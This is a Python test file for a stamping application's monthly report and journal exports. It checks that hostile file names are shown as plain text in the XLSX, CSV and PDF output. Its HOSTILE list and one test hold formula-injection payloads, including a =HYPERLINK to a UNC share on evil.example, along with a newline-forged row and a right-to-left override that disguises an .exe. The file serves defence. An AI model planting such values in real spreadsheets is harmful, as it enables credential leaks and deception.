"""Class 9: the monthly report is a document others open.

The insider names a document so that the office's spreadsheet runs it
(``=HYPERLINK(…)`` and OWASP's other formula starts), or so that a table
shows a row that is not there (a line break, a direction override), and
stamps it from a file of another name. Each ends shown as plain text, in the
name the approval carries, in the XLSX (openpyxl), the CSV (csv) and the PDF.
"""

from __future__ import annotations

import csv
import json
import datetime as dt
import shutil

import openpyxl
import pymupdf
import pytest

from sealstation.archive.backend import FolderArchive
from sealstation.cells import csv_text, printable
from sealstation.archive.report_xlsx import SHEETS
from sealstation.archive.summary import REPORT_TZ
from support.pdfs import make_pdf
from support.station_fixtures import approve, password, sign_plan
from sealstation.model import Placement
from sealstation.station import StampRequestSpec

HOSTILE = [
    '=HYPERLINK("\\\\evil.example\\share\\x","点击查看").pdf',
    "=1+2.pdf",
    "+SUM(1,2).pdf",
    "-3+4.pdf",
    "@SUM(5).pdf",
    "\t=6+7.pdf",
    "\r=8+9.pdf",
    "合同\n2026-11-02 伪造的一行.pdf",
    "发票\u202efdp.exe",
]


@pytest.fixture
def hostile_month(station, pin, tmp_path):
    """Each hostile name approved as such, and stamped by the custodian from a copy named harmlessly."""
    archive = FolderArchive.create(tmp_path / "archive").root
    folder = tmp_path / "docs"
    folder.mkdir()
    for i, name in enumerate(HOSTILE):
        src = make_pdf(folder / name, text=f"hostile {i}")
        approve(station, src, ["official"], purpose=name)
        innocent = shutil.copy(src, folder / f"contract-{i}.pdf")
        plan = station.stamping().plan_stamp(StampRequestSpec(innocent, "official", Placement(1, (60.0, 50.0)),
                                                   tmp_path / f"out-{i}.pdf", "测试用印"))
        sign_plan(station, plan, tmp_path / f"out-{i}.pdf", pin, approve_first=False)
    station.archive().sync(str(archive))
    return archive, dt.datetime.now(REPORT_TZ).strftime("%Y-%m")


def _report(station, archive, month, out):
    return station.archive().monthly_report(out, month=month, by="admin", password=password("admin"), location=str(archive)).out


def test_the_workbook_shows_hostile_names_as_text(station, hostile_month, tmp_path):
    archive, month = hostile_month
    wb = openpyxl.load_workbook(_report(station, archive, month, tmp_path / "month.xlsx"))
    stamping = wb[SHEETS[1]]
    header = [c.value for c in stamping[1]]
    column = header.index("文件 Document")
    shown = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} {cell.value!r} has no quote prefix"
    for row in stamping.iter_rows(min_row=2):
        shown[row[column].value] = row
    assert set(shown) == {printable(name) for name in HOSTILE}  # as approved, never contract-N.pdf
    purpose = header.index("用途 Purpose")
    assert all(row[purpose].value == name for name, row in shown.items())  # the purpose is a hostile text too
    assert all("\n" not in name and "\u202e" not in name for name in shown)


def test_the_csv_prefixes_formulas_with_a_quote(station, hostile_month, tmp_path):
    archive, month = hostile_month
    out = _report(station, archive, month, tmp_path / "month.csv")
    rows = list(csv.reader(out.open(encoding="utf-8-sig", newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], "a cell a spreadsheet would run"
    stamping = next(i for i, row in enumerate(rows) if row and row[0].startswith("签盖记录 Stamping"))
    column = rows[stamping].index("文件 document")
    documents = {row[column] for row in rows[stamping + 1:stamping + 1 + len(HOSTILE)]}
    assert documents == {csv_text(name) for name in HOSTILE}
    assert "'=HYPERLINK(\"\\\\evil.example\\share\\x\",\"点击查看\").pdf" in documents
    assert not any("contract-" in cell for cell in cells)


def test_the_pdf_draws_each_name_on_its_own_row(station, hostile_month, tmp_path):
    archive, month = hostile_month
    out = _report(station, archive, month, tmp_path / "month.pdf")
    with pymupdf.open(out) as doc:
        text = "".join(page.get_text() for page in doc)
    assert "伪造的一行" in text and "2026-11-02 伪造的一行" not in text.splitlines()
    assert "\\x0a" in text and "\\u202e" in text
    assert "contract-" not in text


def test_the_journal_export_guards_an_oa_requester_named_as_a_formula(cli_home, tmp_path):
    """The requester of an OA file is any text the OA system sends, and becomes the journal entry's actor."""
    from support.cli import run_cli
    from support.oa import approver_key, oa_approval, register_in_home, write_oa_approval

    key = approver_key()
    register_in_home(cli_home, "gm", key)
    src = make_pdf(tmp_path / "contract.pdf")
    hostile = '=HYPERLINK("\\\\evil.example\\x","点击")'
    path = tmp_path / "approval.json"
    write_oa_approval(path, oa_approval(src, requester=hostile, purpose="合同\n用印"), key)
    imported = run_cli("request", "import", str(path), "--user", "custodian", "--stdin-secrets", home=cli_home,
                       stdin=password("custodian") + "\n")
    assert imported.returncode == 0, imported.stderr
    out = tmp_path / "journal.csv"
    exported = run_cli("journal", "export", "--out", str(out), "--user", "auditor", "--stdin-secrets", home=cli_home,
                       stdin=password("auditor") + "\n")
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    actors = [row["actor"] for row in rows]
    assert "'" + hostile in actors
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    received = next(row for row in rows if row["kind"] == "request_received")
    assert json.loads(received["data"])["purpose"] == "合同\n用印"  # the JSON still reads back exactly
